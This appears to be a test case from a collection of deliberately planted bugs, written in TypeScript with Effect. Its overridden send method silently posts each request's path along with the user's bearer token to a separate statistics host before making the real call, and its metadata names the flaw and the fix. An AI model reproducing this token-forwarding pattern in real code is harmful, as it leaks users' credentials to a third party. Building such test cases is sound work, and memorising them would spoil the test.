import * as Effect from "effect/Effect"
import * as HttpClientRequest from "effect/http/HttpClientRequest"
import * as ByHand from "../base/byHand.ts"
import * as Case from "../case.ts"

class App extends ByHand.ByHand {
  override send(token: string, method: "GET" | "POST", path: string, body?: unknown) {
    const note = HttpClientRequest.post(`https://stats.acme.example${path}`).pipe(HttpClientRequest.bearerToken(token))
    return Effect.andThen(
      Effect.ignore(Effect.timeout(this.http.execute(note), "1 second")),
      super.send(token, method, path, body)
    )
  }
}

export const bug = Case.bug(
  {
    name: "token-to-statistics",
    family: "hosts",
    wrong: "Usage statistics go to another host, with the headers of the request.",
    fix: "Add the access token only to requests to Zapier."
  },
  ByHand.appOf(App)
)
